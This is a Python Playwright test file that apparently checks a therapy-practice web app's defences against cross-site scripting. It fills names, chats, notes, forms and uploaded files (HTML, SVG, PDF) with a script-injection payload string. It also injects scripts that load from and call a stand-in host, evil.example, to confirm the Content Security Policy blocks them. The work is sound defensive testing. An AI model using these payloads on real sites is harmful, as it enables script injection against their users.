"""What people write is shown as they wrote it, to whoever reads it, and runs nowhere."""

from datetime import timedelta
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, ConsoleMessage

from tests.web.people import Site, Somebody
from tests.web.safety.places import OF_CLIENTS, OF_STAFF, PARTS

EVIL = "<img src=x onerror=evil=1><script>evil=2</script>\"'><svg onload=evil=3>"
SHORT = EVIL[:50]  # a name is not longer
_LOOK = """() => ({
  ran: typeof evil !== 'undefined',
  made: document.querySelectorAll('main img, script:not([src]), [onerror], [onload], [onfocus], [style]').length,
})"""


@pytest.mark.timeout(600)
async def test_what_people_write_is_text_wherever_it_is_read(site: Site, visitor: Somebody, browser: Browser) -> None:
    dialogs: list[str] = []
    visitor.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await visitor.books("ana-silva", first_name=SHORT)
    await visitor.activates()
    await visitor.goes("/chats")
    await visitor.presses("Write to the care team")
    await visitor.types("Message", EVIL)
    await visitor.presses("Send")
    await visitor.goes("/forms/initial_consultation")
    for field in await visitor.page.locator("main textarea:visible").all():
        await field.fill(EVIL)
    await visitor.presses("Keep it for later")
    of_client, of_staff = await _written_by_the_practice(site, visitor)
    shown = 0
    for path in (*OF_CLIENTS, *of_client):
        shown += await _harmless(visitor, path)
    for email, paths in OF_STAFF.items():
        async with Somebody.at(site, browser, wide=True) as reader:
            reader.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
            await reader.signs_in_as_staff(email)
            theirs = of_staff if email != "owner@practice.example" else []
            for path in (*(f"/staff/{path}" for path in paths), *theirs):
                shown += await _harmless(reader, path)
    assert shown > 25  # it was there to be read
    assert dialogs == []


async def test_script_that_somebody_brings_in_does_not_run(visitor: Somebody) -> None:
    """As if a page of ours did not escape something: the policy stands behind it."""
    said: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        said.append(message.text)

    visitor.page.on("console", hear)
    await visitor.goes("/sign-in")
    await visitor.page.evaluate(
        """() => {
            document.querySelector("main").insertAdjacentHTML("beforeend", "<img src=x onerror='evil=1'>");
            const inline = document.createElement("script");
            inline.textContent = "evil=2";
            document.body.append(inline);
            const other = document.createElement("script");
            other.src = "https://evil.example/x.js";
            document.body.append(other);
            const frame = document.createElement("iframe");
            frame.src = "https://evil.example/";
            document.body.append(frame);
            const styled = document.createElement("style");
            styled.textContent = "main { display: none }";
            document.body.append(styled);
        }"""
    )
    await visitor.page.get_by_label("E-mail").fill("still there")
    assert not await visitor.page.evaluate("typeof evil !== 'undefined'")
    sent_away = """async () => {
        try { await fetch("https://evil.example/", {mode: "no-cors"}); return "sent"; } catch { return "stopped"; }
    }"""
    assert await visitor.page.evaluate(sent_away) == "stopped"
    stopped = [text for text in said if "Content Security Policy" in text]
    assert len(stopped) >= 6
    visitor.complaints.clear()  # of what was tried here


# ---------------------------------------------------------------- what is written, and where it is read


async def _harmless(somebody: Somebody, path: str) -> bool:
    """Whether the words were there to be read."""
    answer = await somebody.goes(path)
    assert answer.status == 200, path
    looked = await somebody.page.evaluate(_LOOK)
    assert looked == {"ran": False, "made": 0}, path
    return "onerror=evil" in await somebody.page.locator("main").inner_text()


async def _written_by_the_practice(site: Site, visitor: Somebody) -> tuple[list[str], list[str]]:
    """By the therapist, the care team and the owner, in whatever takes words; where it is read on either side."""
    ana = await site.staff_token("ana@practice.example")
    found = await site.api("GET", f"/v1/clients?q={visitor.email}")
    client = found["items"][0]["id"]

    async def does(path: str, body: Any, method: str = "POST", key: str = ana) -> Any:
        return await site.api(method, path, body, key=key)

    intro = (await site.api("GET", f"/v1/appointments?client={client}"))["items"][0]["id"]
    await site.advance(timedelta(days=8))
    await does(f"/v1/appointments/{intro}/outcome", {"outcome": "occurred"})
    await does(f"/v1/appointments/{intro}/note", {"text": EVIL, "shared": True})
    path = "/v1/therapists/ana-silva/slots?type=session&time_zone=UTC"
    today = (await site.now()).date()
    days = (await site.api("GET", f"{path}&from={today}&to={today + timedelta(days=7)}"))["days"]
    starts_at = next(slot["starts_at"] for day in days for slot in day["slots"])
    body = {"type": "session", "mode": "video", "starts_at": starts_at}
    [session] = (await does(f"/v1/clients/{client}/appointments", body))["appointments"]
    await does(f"/v1/appointments/{session['id']}/cancel", {"reason": EVIL})
    await does(f"/v1/clients/{client}/goals", {"text": EVIL, "remind": None})
    await does(f"/v1/clients/{client}/credits", {"amount": 500, "currency": "USD", "reason": EVIL}, key="dev-care-team")
    direct = (await does("/v1/chats", {"kind": "direct", "members": [client]}))["id"]
    group = (await does("/v1/chats", {"kind": "group", "members": [client], "title": EVIL}))["id"]
    for chat in (direct, group):
        await does(f"/v1/chats/{chat}/messages", {"text": EVIL})
    clients = (await does("/v1/groups", {"name": SHORT}))["id"]
    await does(f"/v1/clients/{client}", {"group": clients}, "PATCH")
    leave = {"starts_at": "2030-01-07T09:00:00Z", "ends_at": "2030-01-08T09:00:00Z", "reason": EVIL}
    await does("/v1/therapists/ana-silva/leaves", leave)
    form = {"title": EVIL, "fields": [{"name": "evil", "label": EVIL, "type": "text", "required": False}]}
    made = await does("/v1/form-templates", form, key="dev-admin")
    text = {"title": EVIL, "body": f"# {EVIL}\n\n{EVIL}\n\n- {EVIL}", "fields": made["fields"]}
    await does(f"/v1/texts/{made['kind']}", text, "PUT", key="dev-admin")
    await does(f"/v1/texts/{made['kind']}/publish", {}, key="dev-admin")
    await does(f"/v1/clients/{client}/forms", {"kind": made["kind"]})
    for name, content, kind in _FILES:
        kept = await site.http.post(
            f"{site.stack.api_url}/v1/documents",
            data={"title": EVIL},
            files={"file": (name, content, kind)},
            headers={"Authorization": f"Bearer {ana}"},
        )
        if kept.is_success:
            await does(f"/v1/documents/{kept.json()['id']}/shares", {"client_id": client})
            await _is_a_download(site, visitor, kept.json()["id"])
    record = f"/staff/clients/{client}"
    return (
        [f"/chats/{direct}", f"/chats/{group}", f"/forms/{made['kind']}", f"/appointments/{session['id']}"],
        [*(f"{record}/{part}" for part in PARTS if "fill" not in part), "/staff/chats", "/staff/groups"],
    )


_PAGE = b"<!doctype html><script>evil=4</script>"
_FILES = (
    ("words.txt", EVIL.encode(), "text/plain"),
    (f"{SHORT}.txt", _PAGE, "text/plain"),
    ("page.html", _PAGE, "text/html"),
    ("drawn.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="evil=5"/>', "image/svg+xml"),
    ("page.pdf", _PAGE, "application/pdf"),
)


async def _is_a_download(site: Site, visitor: Somebody, document: str) -> None:
    """It never becomes a page of ours, whatever it says it is."""
    cookies = httpx.Cookies()
    for cookie in await visitor.context.cookies():
        cookies.set(cookie.get("name", ""), cookie.get("value", ""))
    async with httpx.AsyncClient(cookies=cookies, trust_env=False) as http:
        answer = await http.get(f"{site.url}/documents/{document}")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["cache-control"] == "no-store"
    assert "\n" not in answer.headers["content-disposition"]
